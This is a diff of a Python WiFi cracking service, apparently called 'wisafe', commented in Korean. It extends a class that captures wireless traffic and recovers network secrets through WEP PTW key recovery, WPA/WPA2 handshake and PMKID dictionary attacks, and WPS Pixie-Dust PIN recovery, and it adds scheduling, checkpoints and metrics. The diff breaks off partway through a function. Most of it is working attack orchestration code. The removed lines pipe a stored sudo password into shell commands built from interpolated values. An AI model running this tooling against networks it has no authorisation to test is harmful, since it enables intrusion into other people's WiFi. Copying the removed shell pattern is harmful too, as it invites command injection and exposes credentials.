@@ -1,17 +1,51 @@
 import subprocess
-import re
 import os
 import time
 import threading
-from typing import Dict, Any, Optional, Generator
+from contextlib import nullcontext
+from typing import Callable, Dict, Any, Optional, Generator
 from pathlib import Path
 import json
 from config import Config
+from services.handshake import PAIR_PMKID, Handshake, HandshakeIndex
+from services.job_scheduler import (
+    CANCEL_TIMEOUT, PRIORITY_INTERACTIVE, PRIORITY_OFFLINE, PRIORITY_RESUME, Job, JobScheduler
+)
+from services.job_store import JobStore, RangeSet
+from services.metrics import registry
+from services.pcap import PcapTail, open_capture
+from services.pmk_cache import get_pmk_cache
+from services.progress_board import ProgressBoard
+from services.radio import radio_manager
+from services.scanner_daemon import scanner_daemon
+from services.supervisor import IV_PATTERN, KEY_FOUND_PATTERN, PERCENT_PATTERN, ProcessEvent, process_supervisor
+from services.wep_engine import PTWAttack, WEPResult
+from services.wordlist import get_wordlist
+from services.wpa_engine import WPADictionaryEngine
+from services.wps_engine import PixieDustEngine, WPSExchange, WPSIndex, registrar_private_key
+from utils.process import kill_process_tree
+from utils.privhelper import discard_output, popen_privileged
+
+# 내장 WEP 엔진이 IV 수집 중 키 복구를 다시 시도하는 IV 증가 간격
+WEP_SOLVE_STEP = 5000
+
+# 더 이상 진행 상황이 바뀌지 않는 크래킹 상태
+FINAL_STATUSES = ('completed', 'failed', 'error', 'cancelled', 'timeout', 'interrupted')
+
+# 크래킹 메트릭 (/metrics)
+CRACK_PHASE_SECONDS = registry.histogram(
+    'wisafe_crack_phase_seconds', '크래킹 단계(step)별 소요 시간 (초)', ('protocol', 'phase')
+)
+CRACK_JOB_SECONDS = registry.histogram(
+    'wisafe_crack_job_seconds', '크래킹 작업 전체 소요 시간 (대기 포함, 초)', ('protocol', 'status')
+)
+CRACK_JOBS = registry.counter('wisafe_crack_jobs_total', '최종 상태별 크래킹 작업 수', ('protocol', 'status'))
+CRACK_CANDIDATES = registry.counter('wisafe_crack_candidates_total', '내장 엔진 사전 공격으로 검증한 wordlist 줄 수')
 
 class CrackingService:
     """프로토콜별 WiFi 크래킹 서비스"""
     
-    def __init__(self, wordlist_path: str = "/usr/share/wordlists/rockyou.txt"):
+    def __init__(self, wordlist_path: str = Config.CRACKING_WORDLIST_PATH):
         """
         Args:
             wordlist_path: WPA/WPA2 크래킹용 wordlist 경로
@@ -19,7 +53,13 @@ class CrackingService:
         self.wordlist_path = wordlist_path
         self.cracking_processes = {}  # 진행 중인 크래킹 프로세스 저장
         self.cracking_results = {}  # 크래킹 결과 저장
-        self.cracking_progress = {}  # 크래킹 진행 상황 저장
+        self._job_protocols: Dict[str, str] = {}  # 메트릭 레이블용 작업별 프로토콜
+        self._phases: Dict[str, list] = {}  # 작업별 [현재 step, step 시작 시각, 작업 시작 시각]
+        self._phase_lock = threading.Lock()
+        self.cracking_progress = ProgressBoard(self._record_phase)  # 크래킹 진행 상황 저장 (변경 시 SSE 스트림에 알림)
+        self.job_store = JobStore(Config.CRACKING_STATE_DIR)  # 재시작 후 재개용 체크포인트
+        self.scheduler = JobScheduler(Config.CRACKING_MAX_JOBS, Config.CRACKING_TIMEOUT or None)  # 동시 실행 작업 수 제한
+        self._load_checkpoints()
         
     def start_cracking(self, wifi_data: Dict[str, Any], interface: Optional[str] = None) -> str:
         """크래킹 시작"""
@@ -30,6 +70,7 @@ class CrackingService:
         
         # 크래킹 ID 생성
         cracking_id = f"{bssid}_{int(time.time())}"
+        self._job_protocols[cracking_id] = protocol or 'unknown'
         
         # 프로토콜별 크래킹 시작
         if protocol == 'OPEN':
@@ -40,19 +81,11 @@ class CrackingService:
             }
             return cracking_id
         elif protocol == 'WEP':
-            thread = threading.Thread(
-                target=self._crack_wep,
-                args=(cracking_id, bssid, ssid, channel, interface)
-            )
-            thread.daemon = True
-            thread.start()
-        elif protocol in ['WPA', 'WPA2', 'WPA2_WPS']:
-            thread = threading.Thread(
-                target=self._crack_wpa,
-                args=(cracking_id, bssid, ssid, channel, interface)
-            )
-            thread.daemon = True
-            thread.start()
+            target = self._crack_wep
+        elif protocol == 'WPA2_WPS':
+            target = self._crack_wps
+        elif protocol in ['WPA', 'WPA2']:
+            target = self._crack_wpa
         elif protocol == 'WPA3':
             self.cracking_progress[cracking_id] = {
                 'status': 'error',
@@ -68,15 +101,207 @@ class CrackingService:
             }
             return cracking_id
         
-        # 초기 진행 상황 설정
+        # 같은 무선 인터페이스를 쓰는 작업은 스케줄러가 하나씩 실행
+        self._submit(
+            cracking_id,
+            target,
+            (cracking_id, bssid, ssid, channel, interface),
+            PRIORITY_INTERACTIVE,
+            adapter=interface or Config.WIFI_INTERFACE
+        )
+        
+        return cracking_id
+    
+    def _submit(self, cracking_id: str, target, args: tuple, priority: int, adapter: Optional[str] = None):
+        """스케줄러에 작업 등록 (이미 대기/실행 중이면 무시)"""
+        if self.scheduler.get(cracking_id) is not None:
+            return
+        
         self.cracking_progress[cracking_id] = {
-            'status': 'running',
-            'message': '크래킹을 시작합니다...',
+            'status': 'queued',
+            'message': '작업 대기 중...',
             'progress': 0,
-            'step': 'initializing'
+            'step': 'queued'
         }
+        self.scheduler.submit(
+            cracking_id,
+            self._run_job,
+            (cracking_id, target, args, adapter),
+            priority=priority,
+            resource=adapter
+        )
+        self._publish_queue_positions()
+    
+    def _record_phase(self, cracking_id: str, progress: Dict[str, Any]):
+        """진행 상황의 step이 바뀔 때마다 이전 단계 소요 시간 기록 (최종 상태면 작업 메트릭 기록)"""
+        now = time.time()
+        status = progress.get('status')
+        final = status in FINAL_STATUSES
+        with self._phase_lock:
+            protocol = self._job_protocols.get(cracking_id)
+            if protocol is None:
+                return  # 체크포인트에서 불러온 작업 등 이번 실행에서 시작하지 않은 작업
+            phase = self._phases.get(cracking_id)
+            step = progress.get('step')
+            if phase is None:
+                phase = self._phases[cracking_id] = [step or status, now, now]
+            elif final or (step and step != phase[0]):
+                CRACK_PHASE_SECONDS.observe(now - phase[1], protocol=protocol, phase=phase[0])
+                phase[0], phase[1] = step, now
+            if final:
+                CRACK_JOBS.inc(protocol=protocol, status=status)
+                CRACK_JOB_SECONDS.observe(now - phase[2], protocol=protocol, status=status)
+                del self._phases[cracking_id]
+                del self._job_protocols[cracking_id]
+    
+    def _publish_queue_positions(self):
+        """대기 중인 작업의 순번 갱신 (순번이 바뀐 작업만 다시 기록)"""
+        for cracking_id, progress in list(self.cracking_progress.items()):
+            if progress.get('status') != 'queued':
+                continue
+            position = self.scheduler.position(cracking_id)
+            if position is None or progress.get('queue_position') == position:
+                continue
+            self.cracking_progress[cracking_id] = dict(
+                progress,
+                queue_position=position,
+                message=f'작업 대기 중... (앞에 {position}개 작업)'
+            )
+    
+    def _run_job(self, cracking_id: str, target, args: tuple, adapter: Optional[str] = None):
+        """스케줄러 워커에서 작업 실행 (종료 후 남은 프로세스 정리 및 취소/시간 초과 상태 기록)"""
+        if self.cracking_progress.get(cracking_id, {}).get('status') == 'queued':
+            self.cracking_progress[cracking_id] = {
+                'status': 'running',
+                'message': '크래킹을 시작합니다...',
+                'progress': 0,
+                'step': 'initializing'
+            }
+        self._publish_queue_positions()
         
-        return cracking_id
+        # 무선 인터페이스를 쓰는 작업 동안 백그라운드 스캐너는 인터페이스를 내려놓음
+        pause = scanner_daemon.pause() if adapter and Config.WIFI_SCANNER_DAEMON else nullcontext()
+        try:
+            with pause:
+                target(*args)
+        finally:
+            for process in self.cracking_processes.pop(cracking_id, []):
+                kill_process_tree(process)
+            
+            job = self.scheduler.get(cracking_id)
+            if job is not None and job.cancelled:
+                self._mark_cancelled(cracking_id, job)
+    
+    def _mark_cancelled(self, cracking_id: str, job: Job):
+        """취소/시간 초과된 작업의 최종 상태 기록"""
+        if job.cancel_reason == CANCEL_TIMEOUT:
+            # 시간 초과는 체크포인트를 남겨 두므로 이어서 진행 가능
+            resumable = self.job_store.load(cracking_id) is not None
+            self.cracking_results[cracking_id] = {
+                'success': False,
+                'message': f'실행 시간 제한({Config.CRACKING_TIMEOUT}초)을 초과했습니다.'
+            }
+            self.cracking_progress[cracking_id] = {
+                'status': 'timeout',
+                'message': f'실행 시간 제한({Config.CRACKING_TIMEOUT}초)을 초과하여 중단했습니다.' + (' 재개할 수 있습니다.' if resumable else ''),
+                'progress': 100,
+                'step': 'timeout',
+                'resumable': resumable
+            }
+        else:
+            self.job_store.delete(cracking_id)
+            self.cracking_results[cracking_id] = {
+                'success': False,
+                'message': '사용자가 작업을 취소했습니다.'
+            }
+            self.cracking_progress[cracking_id] = {
+                'status': 'cancelled',
+                'message': '작업이 취소되었습니다.',
+                'progress': 100,
+                'step': 'cancelled'
+            }
+    
+    def cancel_cracking(self, cracking_id: str) -> bool:
+        """작업 취소 (대기 중이면 큐에서 제거, 실행 중이면 프로세스 트리 종료)"""
+        was_queued = self.scheduler.position(cracking_id) is not None
+        job = self.scheduler.cancel(cracking_id)
+        if job is None:
+            return False
+        
+        # 대기 중이던 작업은 워커가 실행하지 않으므로 여기서 상태 기록
+        if was_queued:
+            self._mark_cancelled(cracking_id, job)
+            self._publish_queue_positions()
+        return True
+    
+    def _is_cancelled(self, cracking_id: str) -> bool:
+        """작업이 취소되었거나 실행 예산을 넘겼는지 확인"""
+        job = self.scheduler.get(cracking_id)
+        return job is not None and job.cancelled
+    
+    def _wait(self, cracking_id: str, seconds: float) -> bool:
+        """time.sleep 대체 (취소되면 즉시 True 반환)"""
+        job = self.scheduler.get(cracking_id)
+        if job is None:
+            time.sleep(seconds)
+            return False
+        return job.wait(seconds)
+    
+    def _popen(self, cracking_id: str, op: str, **kwargs) -> subprocess.Popen:
+        """작업 소속 프로세스 실행 (권한 도우미 작업 op, 도우미가 없으면 sudo)
+        
+        새 세션(프로세스 그룹)으로 실행하여 취소 시 sudo/airodump-ng 등 하위 프로세스까지 함께 종료하고,
+        남은 실행 예산만큼 CPU 시간 제한(RLIMIT_CPU)을 적용합니다.
+        """
+        job = self.scheduler.get(cracking_id)
+        remaining = job.remaining() if job is not None else None
+        cpu_limit = int(remaining) + 1 if remaining is not None else None
+        
+        process = popen_privileged(op, cpu_limit=cpu_limit, **kwargs)
+        self.cracking_processes.setdefault(cracking_id, []).append(process)
+        if job is not None:
+            job.add_cleanup(lambda: kill_process_tree(process))
+        return process
+    
+    def _watch_capture(self, cracking_id: str, process: subprocess.Popen, cap_path: str, analyzer,
+                       done: Callable[[], bool], count: Callable[[], int], report: Callable[[int], None],
+                       timeout: float, poll_interval: float = 0.5) -> bool:
+        """기록 중인 캡처 파일을 증분 분석하며 대기 (취소되면 True)
+        
+        새로 기록된 레코드만 analyzer.feed()로 넘기고 done()이 참이 되면 바로 반환합니다.
+        timeout이 지나도 최근 CRACKING_CAPTURE_GRACE초 안에 count()가 늘었으면
+        CRACKING_CAPTURE_MAX_WAIT까지 계속 수집합니다.
+        """
+        tail = None
+        started = time.time()
+        last_count = 0
+        last_change = None  # 마지막으로 count()가 늘어난 시각
+        while True:
+            if tail is None and os.path.exists(cap_path):
+                tail = PcapTail(cap_path)
+            if tail is not None:
+                for timestamp, frame in tail.dot11_frames():
+                    analyzer.feed(timestamp, frame)
+            
+            now = time.time()
+            current = count()
+            if current != last_count:
+                last_count = current
+                last_change = now
+                report(current)
+            if done():
+                return False
+            
+            elapsed = now - started
+            if elapsed >= timeout:
+                still_growing = last_change is not None and now - last_change < Config.CRACKING_CAPTURE_GRACE
+                if not still_growing or elapsed >= Config.CRACKING_CAPTURE_MAX_WAIT:
+                    return False
+            if process.poll() is not None:
+                # airodump-ng가 종료되면 더 기록될 내용이 없음
+                return False
+            if self._wait(cracking_id, poll_interval):
+                return True
     
     def _crack_wep(self, cracking_id: str, bssid: str, ssid: str, channel: int, interface: Optional[str]):
         """WEP 크래킹"""
@@ -102,27 +327,77 @@ class CrackingService:
                 return
             
             # airodump-ng로 IV 수집
-            output_dir = f"/tmp/wisafe_crack_{cracking_id}"
-            os.makedirs(output_dir, exist_ok=True)
-            cap_file = os.path.join(output_dir, "wep_capture")
-            
-            # airodump-ng 실행 (30초 동안 IV 수집, sudo 비밀번호 자동 입력)
-            airodump_process = subprocess.Popen(
-                f"echo '{Config.SUDO_PASSWORD}' | sudo -S airodump-ng -c {channel} --bssid {bssid} -w {cap_file} --output-format cap {interface}",
-                shell=True,
+            session = f"crack_{cracking_id}"
+            
+            # airodump-ng 실행 (권한 도우미 또는 sudo, 출력은 TOOL_OUTPUT_DIR/<session>)
+            airodump_process = self._popen(
+                cracking_id,
+                'capture',
+                session=session,
+                name="wep_capture",
+                interface=interface,
+                bssid=bssid,
+                channel=channel,
                 stdout=subprocess.PIPE,
                 stderr=subprocess.PIPE,
                 text=True
             )
+            cap_file = airodump_process.output_prefix
+            output_dir = os.path.dirname(cap_file)
+            # 화면 출력은 감시 스레드가 계속 비워 파이프가 차서 airodump-ng가 멈추지 않도록 함
+            process_supervisor.watch(airodump_process, name='airodump-ng', tail_lines=20)
             
-            # IV 수집 대기 (실제로는 더 많은 IV가 필요하지만 데모용으로 짧게)
-            time.sleep(30)
+            # 캡처 파일을 증분 분석하며 IV가 충분히 모이면 즉시 종료
+            # (내장 엔진은 IV가 WEP_SOLVE_STEP개 늘 때마다 키 복구를 시도하고 찾는 즉시 종료)
+            native = Config.CRACKING_ENGINE == 'native'
+            attack = PTWAttack(bssid)
+            wep_result = None
+            next_solve = WEP_SOLVE_STEP
             
-            airodump_process.terminate()
-            try:
-                airodump_process.wait(timeout=5)
-            except subprocess.TimeoutExpired:
-                airodump_process.kill()
+            def wep_done() -> bool:
+                nonlocal wep_result, next_solve
+                if not native:
+                    return attack.ivs >= Config.CRACKING_WEP_MIN_IVS
+                if attack.ivs >= next_solve:
+                    next_solve = attack.ivs + WEP_SOLVE_STEP
+                    wep_result = attack.solve()
+                return wep_result is not None
+            
+            def report_ivs(ivs: int):
+                self.cracking_progress[cracking_id] = {
+                    'status': 'running',
+                    'message': f'IV 패킷 수집 중... ({ivs} IVs)',
+                    'progress': 10 + int(min(ivs / max(Config.CRACKING_WEP_MIN_IVS, 1), 1.0) * 30),
+                    'step': 'collecting_iv',
+                    'ivs': ivs,
+                    'frames': attack.frames
+                }
+            
+            cancelled = self._watch_capture(
+                cracking_id, airodump_process, f"{cap_file}-01.cap", attack,
+                done=wep_done,
+                count=lambda: attack.ivs,
+                report=report_ivs,
+                timeout=Config.CRACKING_WEP_CAPTURE_TIMEOUT
+            )
+            
+            kill_process_tree(airodump_process)
+            if cancelled:
+                discard_output(session)
+                return
+            
+            # 내장 엔진은 수집 중에 누적한 득표로 바로 키 복구
+            if native:
+                if not attack.ivs:
+                    self.cracking_progress[cracking_id] = {
+                        'status': 'error',
+                        'message': 'WEP 암호화 패킷을 수집하지 못했습니다.',
+                        'progress': 100
+                    }
+                else:
+                    self._report_wep(cracking_id, attack, wep_result or attack.solve())
+                discard_output(session)
+                return
             
             # 진행 상황 업데이트
             self.cracking_progress[cracking_id] = {
@@ -145,9 +420,10 @@ class CrackingService:
             cap_file_path = os.path.join(output_dir, cap_files[0])
             
             # aircrack-ng 실행 (sudo 비밀번호 자동 입력)
-            aircrack_process = subprocess.Popen(
-                f"echo '{Config.SUDO_PASSWORD}' | sudo -S aircrack-ng {cap_file_path}",
-                shell=True,
+            aircrack_process = self._popen(
+                cracking_id,
+                'crack',
+                capture=cap_file_path,
                 stdin=subprocess.PIPE,
                 stdout=subprocess.PIPE,
                 stderr=subprocess.PIPE,
@@ -158,43 +434,38 @@ class CrackingService:
             aircrack_process.stdin.write('\n')
             aircrack_process.stdin.flush()
             
-            # 출력 읽기
-            output = ''
-            start_time = time.time()
-            timeout = 60  # 60초 타임아웃
+            def report_ivs(event: ProcessEvent):
+                if event.name != 'ivs':
+                    return
+                iv_count = int(event.groups[0])
+                self.cracking_progress[cracking_id] = {
+                    'status': 'running',
+                    'message': f'IV 분석 중... ({iv_count} IVs)',
+                    'progress': int(min(50 + (iv_count / 10000) * 40, 90)),
+                    'step': 'cracking'
+                }
             
-            while time.time() - start_time < timeout:
-                if aircrack_process.poll() is not None:
-                    break
-                
-                # 진행 상황 읽기
-                line = aircrack_process.stdout.readline()
-                if line:
-                    output += line
-                    # IV 개수 파싱
-                    iv_match = re.search(r'(\d+)\s+IV', line)
-                    if iv_match:
-                        iv_count = int(iv_match.group(1))
-                        progress = min(50 + (iv_count / 10000) * 40, 90)
-                        self.cracking_progress[cracking_id] = {
-                            'status': 'running',
-                            'message': f'IV 분석 중... ({iv_count} IVs)',
-                            'progress': int(progress),
-                            'step': 'cracking'
-                        }
+            # 출력은 감시 스레드가 읽고 IV 수/KEY FOUND 이벤트만 전달 (60초 지나면 강제 종료)
+            # 취소되면 작업 정리 함수가 프로세스를 종료하므로 wait()도 함께 끝남
+            supervised = process_supervisor.watch(
+                aircrack_process,
+                {'ivs': IV_PATTERN, 'key': KEY_FOUND_PATTERN},
+                deadline=60,
+                on_event=report_ivs,
+                name='aircrack-ng'
+            )
+            supervised.wait()
             
             # 프로세스 종료
-            aircrack_process.terminate()
-            try:
-                aircrack_process.wait(timeout=5)
-            except subprocess.TimeoutExpired:
-                aircrack_process.kill()
+            kill_process_tree(aircrack_process)
+            if self._is_cancelled(cracking_id):
+                discard_output(session)
+                return
             
             # 결과 확인
-            if 'KEY FOUND' in output:
-                key_match = re.search(r'KEY FOUND!\s*\[(.+)\]', output)
-                if key_match:
-                    key = key_match.group(1)
+            if supervised.value('key') is not None:
+                key = supervised.value('key').strip()
+                if key:
                     self.cracking_results[cracking_id] = {
                         'success': True,
                         'password': key,
@@ -228,11 +499,7 @@ class CrackingService:
                 }
             
             # 임시 파일 정리
-            try:
-                import shutil
-                shutil.rmtree(output_dir, ignore_errors=True)
-            except:
-                pass
+            discard_output(session)
                 
         except Exception as e:
             self.cracking_progress[cracking_id] = {
@@ -270,35 +537,62 @@ class CrackingService:
                 self.wordlist_path = self._create_demo_wordlist()
             
             # airodump-ng로 핸드셰이크 캡처
-            output_dir = f"/tmp/wisafe_crack_{cracking_id}"
-            os.makedirs(output_dir, exist_ok=True)
-            cap_file = os.path.join(output_dir, "wpa_capture")
-            
-            # airodump-ng 실행 (sudo 비밀번호 자동 입력)
-            airodump_process = subprocess.Popen(
-                f"echo '{Config.SUDO_PASSWORD}' | sudo -S airodump-ng -c {channel} --bssid {bssid} -w {cap_file} --output-format cap {interface}",
-                shell=True,
+            session = f"crack_{cracking_id}"
+            
+            # airodump-ng 실행 (권한 도우미 또는 sudo, 출력은 TOOL_OUTPUT_DIR/<session>)
+            airodump_process = self._popen(
+                cracking_id,
+                'capture',
+                session=session,
+                name="wpa_capture",
+                interface=interface,
+                bssid=bssid,
+                channel=channel,
                 stdout=subprocess.PIPE,
                 stderr=subprocess.PIPE,
                 text=True
             )
+            cap_file = airodump_process.output_prefix
+            output_dir = os.path.dirname(cap_file)
+            # 화면 출력은 감시 스레드가 계속 비워 파이프가 차서 airodump-ng가 멈추지 않도록 함
+            process_supervisor.watch(airodump_process, name='airodump-ng', tail_lines=20)
             
             # 진행 상황 업데이트
             self.cracking_progress[cracking_id] = {
                 'status': 'running',
-                'message': '핸드셰이크 대기 중... (클라이언트 연결 필요)',
+                'message': '핸드셰이크/PMKID 대기 중...',
                 'progress': 20,
                 'step': 'waiting_handshake'
             }
             
-            # 핸드셰이크 캡처 대기 (60초)
-            time.sleep(60)
+            # 캡처 파일을 증분 분석하며 핸드셰이크 또는 M1의 PMKID가 잡히는 즉시 종료
+            index = HandshakeIndex()
+            
+            def report_eapol(eapol_count: int):
+                found = [handshake for handshakes in index.handshakes.values() for handshake in handshakes]
+                pmkids = sum(1 for handshake in found if handshake.message_pair == PAIR_PMKID)
+                self.cracking_progress[cracking_id] = {
+                    'status': 'running',
+                    'message': f'핸드셰이크 대기 중... (EAPOL {eapol_count}개)',
+                    'progress': 20,
+                    'step': 'waiting_handshake',
+                    'eapol_frames': eapol_count,
+                    'handshakes': len(found) - pmkids,
+                    'pmkids': pmkids
+                }
+            
+            cancelled = self._watch_capture(
+                cracking_id, airodump_process, f"{cap_file}-01.cap", index,
+                done=lambda: index.best(bssid) is not None,
+                count=lambda: index.eapol_count,
+                report=report_eapol,
+                timeout=Config.CRACKING_WPA_CAPTURE_TIMEOUT
+            )
             
-            airodump_process.terminate()
-            try:
-                airodump_process.wait(timeout=5)
-            except subprocess.TimeoutExpired:
-                airodump_process.kill()
+            kill_process_tree(airodump_process)
+            if cancelled:
+                discard_output(session)
+                return
             
             # cap 파일 확인
             cap_files = [f for f in os.listdir(output_dir) if f.endswith('.cap')]
@@ -312,6 +606,17 @@ class CrackingService:
             
             cap_file_path = os.path.join(output_dir, cap_files[0])
             
+            # 내장 엔진 사용 시 프로세스 풀로 사전 공격 (캡처 중에 찾은 핸드셰이크 사용)
+            # PMKID만 잡혔으면 aircrack-ng 엔진 설정이어도 프로세스 안에서 바로 공격
+            handshake = index.best(bssid)
+            if Config.CRACKING_ENGINE == 'native' or (handshake and handshake.message_pair == PAIR_PMKID):
+                if handshake and (ssid or index.ssid_for(bssid)):
+                    self._dictionary_attack(cracking_id, handshake, ssid or index.ssid_for(bssid))
+                else:
+                    self._run_native_dictionary(cracking_id, cap_file_path, bssid, ssid)
+                discard_output(session)
+                return
+            
             # 진행 상황 업데이트
             self.cracking_progress[cracking_id] = {
                 'status': 'running',
@@ -321,52 +626,50 @@ class CrackingService:
             }
             
             # aircrack-ng로 사전 공격 (sudo 비밀번호 자동 입력)
-            aircrack_process = subprocess.Popen(
-                f"echo '{Config.SUDO_PASSWORD}' | sudo -S aircrack-ng -w {self.wordlist_path} -b {bssid} {cap_file_path}",
-                shell=True,
+            aircrack_process = self._popen(
+                cracking_id,
+                'crack',
+                capture=cap_file_path,
+                wordlist=self.wordlist_path,
+                bssid=bssid,
                 stdout=subprocess.PIPE,
                 stderr=subprocess.PIPE,
                 text=True
             )
             
-            # 출력 읽기
-            output = ''
-            start_time = time.time()
-            timeout = 300  # 5분 타임아웃
-            last_progress = 40
+            def report_progress(event: ProcessEvent):
+                if event.name != 'progress':
+                    return
+                progress = float(event.groups[0])
+                self.cracking_progress[cracking_id] = {
+                    'status': 'running',
+                    'message': f'사전 공격 진행 중... ({progress:.1f}%)',
+                    'progress': 40 + int(progress * 0.5),  # 40-90% 범위
+                    'step': 'dictionary_attack'
+                }
             
-            while time.time() - start_time < timeout:
-                if aircrack_process.poll() is not None:
-                    break
-                
-                # 진행 상황 읽기
-                line = aircrack_process.stdout.readline()
-                if line:
-                    output += line
-                    # 키 테스트 진행률 파싱
-                    progress_match = re.search(r'(\d+\.\d+)%', line)
-                    if progress_match:
-                        progress = float(progress_match.group(1))
-                        last_progress = 40 + int(progress * 0.5)  # 40-90% 범위
-                        self.cracking_progress[cracking_id] = {
-                            'status': 'running',
-                            'message': f'사전 공격 진행 중... ({progress:.1f}%)',
-                            'progress': last_progress,
-                            'step': 'dictionary_attack'
-                        }
+            # 출력은 감시 스레드가 읽고 진행률/KEY FOUND 이벤트만 전달
+            # 실행 시간 제한은 남은 작업 예산(CRACKING_TIMEOUT)을 기한으로 적용
+            job = self.scheduler.get(cracking_id)
+            supervised = process_supervisor.watch(
+                aircrack_process,
+                {'progress': PERCENT_PATTERN, 'key': KEY_FOUND_PATTERN},
+                deadline=job.remaining() if job is not None else None,
+                on_event=report_progress,
+                name='aircrack-ng'
+            )
+            supervised.wait()
             
             # 프로세스 종료
-            aircrack_process.terminate()
-            try:
-                aircrack_process.wait(timeout=5)
-            except subprocess.TimeoutExpired:
-                aircrack_process.kill()
+            kill_process_tree(aircrack_process)
+            if self._is_cancelled(cracking_id):
+                discard_output(session)
+                return
             
             # 결과 확인
-            if 'KEY FOUND' in output:
-                key_match = re.search(r'KEY FOUND!\s*\[(.+)\]', output)
-                if key_match:
-                    key = key_match.group(1)
+            if supervised.value('key') is not None:
+                key = supervised.value('key').strip()
+                if key:
                     self.cracking_results[cracking_id] = {
                         'success': True,
                         'password': key,
@@ -400,11 +703,7 @@ class CrackingService:
                 }
             
             # 임시 파일 정리
-            try:
-                import shutil
-                shutil.rmtree(output_dir, ignore_errors=True)
-            except:
-                pass
+            discard_output(session)
                 
         except Exception as e:
             self.cracking_progress[cracking_id] = {
@@ -413,25 +712,376 @@ class CrackingService:
                 'progress': 100
             }
     
-    def _detect_monitor_interface(self) -> Optional[str]:
-        """모니터 모드 인터페이스 감지"""
+    def _crack_wps(self, cracking_id: str, bssid: str, ssid: str, channel: int, interface: Optional[str]):
+        """WPS 크래킹 (Pixie-Dust, 등록 교환을 잡지 못하거나 실패하면 WPA 사전 공격)"""
         try:
-            result = subprocess.run(
-                ['iwconfig'],
-                capture_output=True,
-                text=True,
-                timeout=5
+            # 진행 상황 업데이트
+            self.cracking_progress[cracking_id] = {
+                'status': 'running',
+                'message': 'WPS 등록 교환 캡처 중...',
+                'progress': 10,
+                'step': 'capturing_wps'
+            }
+            
+            # 모니터 모드 인터페이스 확인
+            if not interface:
+                interface = self._detect_monitor_interface()
+            
+            if not interface:
+                self.cracking_progress[cracking_id] = {
+                    'status': 'error',
+                    'message': '모니터 모드 인터페이스를 찾을 수 없습니다.',
+                    'progress': 100
+                }
+                return
+            
+            # airodump-ng로 WPS 등록 교환(M1~M3) 캡처
+            session = f"crack_{cracking_id}"
+            
+            # airodump-ng 실행 (권한 도우미 또는 sudo, 출력은 TOOL_OUTPUT_DIR/<session>)
+            airodump_process = self._popen(
+                cracking_id,
+                'capture',
+                session=session,
+                name="wps_capture",
+                interface=interface,
+                bssid=bssid,
+                channel=channel,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+                text=True
+            )
+            cap_file = airodump_process.output_prefix
+            # 화면 출력은 감시 스레드가 계속 비워 파이프가 차서 airodump-ng가 멈추지 않도록 함
+            process_supervisor.watch(airodump_process, name='airodump-ng', tail_lines=20)
+            
+            # 캡처 파일을 증분 분석하며 M1~M3가 모이는 즉시 종료
+            index = WPSIndex()
+            
+            def report_wsc(message_count: int):
+                self.cracking_progress[cracking_id] = {
+                    'status': 'running',
+                    'message': f'WPS 등록 교환 대기 중... (WSC 메시지 {message_count}개)',
+                    'progress': 20,
+                    'step': 'capturing_wps',
+                    'wsc_messages': message_count
+                }
+            
+            cancelled = self._watch_capture(
+                cracking_id, airodump_process, f"{cap_file}-01.cap", index,
+                done=lambda: index.best(bssid) is not None,
+                count=lambda: index.message_count,
+                report=report_wsc,
+                timeout=Config.CRACKING_WPS_CAPTURE_TIMEOUT
             )
             
-            for line in result.stdout.split('\n'):
-                if 'Mode:Monitor' in line:
-                    match = re.search(r'^(\w+)\s+', line)
-                    if match:
-                        return match.group(1)
+            kill_process_tree(airodump_process)
+            discard_output(session)
+            if cancelled:
+                return
             
-            return None
-        except:
-            return None
+            exchange = index.best(bssid)
+            if exchange is not None and self._pixie_dust(cracking_id, exchange):
+                return
+        except Exception as e:
+            self.cracking_progress[cracking_id] = {
+                'status': 'error',
+                'message': f'크래킹 오류: {str(e)}',
+                'progress': 100
+            }
+            return
+        
+        # 등록 교환이 없거나 E-S가 추정 불가능한 AP면 핸드셰이크 사전 공격
+        self._crack_wpa(cracking_id, bssid, ssid, channel, interface)
+    
+    def _pixie_dust(self, cracking_id: str, exchange: WPSExchange) -> bool:
+        """WPS 등록 교환으로 PIN 복구 (결과를 기록했거나 취소되면 True, 다른 공격으로 넘어가야 하면 False)"""
+        if registrar_private_key(exchange) is None:
+            # 레지스트라 DH 개인 키를 모르면 AuthKey를 유도할 수 없음
+            return False
+        
+        self.cracking_progress[cracking_id] = {
+            'status': 'running',
+            'message': 'WPS Pixie-Dust 공격 중...',
+            'progress': 50,
+            'step': 'pixie_dust'
+        }
+        
+        job = self.scheduler.get(cracking_id)
+        engine = PixieDustEngine(workers=Config.CRACKING_WORKERS or None, seed_window=Config.CRACKING_WPS_SEED_WINDOW)
+        result = engine.crack(exchange, cancel_event=job.cancel_event if job is not None else None)
+        if self._is_cancelled(cracking_id):
+            return True
+        if result is None:
+            return False
+        
+        self.cracking_results[cracking_id] = {
+            'success': True,
+            'password': result.psk or result.pin,
+            'pin': result.pin,
+            'method': 'WPS Pixie-Dust',
+            'details': result.to_dict()
+        }
+        message = f'크래킹 성공! WPS PIN: {result.pin}'
+        if result.psk:
+            message += f', 패스워드: {result.psk}'
+        self.cracking_progress[cracking_id] = {
+            'status': 'completed',
+            'message': message,
+            'progress': 100,
+            'step': 'completed'
+        }
+        return True
+    
+    def start_offline_cracking(self, cap_file_path: str, bssid: Optional[str] = None, ssid: Optional[str] = None) -> str:
+        """저장된 캡처 파일로 크래킹 시작 (무선 어댑터 불필요)"""
+        cracking_id = f"{bssid or os.path.basename(cap_file_path)}_{int(time.time())}"
+        
+        self._job_protocols[cracking_id] = 'offline'
+        self._submit(cracking_id, self._run_native_dictionary, (cracking_id, cap_file_path, bssid, ssid), PRIORITY_OFFLINE)
+        
+        return cracking_id
+    
+    def _run_native_dictionary(self, cracking_id: str, cap_file_path: str, bssid: Optional[str], ssid: Optional[str]):
+        """내장 엔진으로 캡처 파일 공격 (WPS Pixie-Dust, 핸드셰이크 사전 공격, WEP 순)"""
+        try:
+            # 핸드셰이크와 WPS 등록 교환 추출 (캡처 1회 순회)
+            index = HandshakeIndex()
+            wps_index = WPSIndex()
+            with open_capture(cap_file_path) as reader:
+                for timestamp, frame in reader.dot11_frames():
+                    index.feed(timestamp, frame)
+                    wps_index.feed(timestamp, frame)
+            
+            # WPS 등록 교환이 있으면 Pixie-Dust 먼저 (실패하면 사전 공격)
+            exchange = wps_index.best(bssid)
+            if exchange is not None and self._pixie_dust(cracking_id, exchange):
+                return
+            
+            handshake = index.best(bssid) if bssid else index.best()
+            
+            if not handshake:
+                # 핸드셰이크가 없으면 WEP 캡처인지 확인
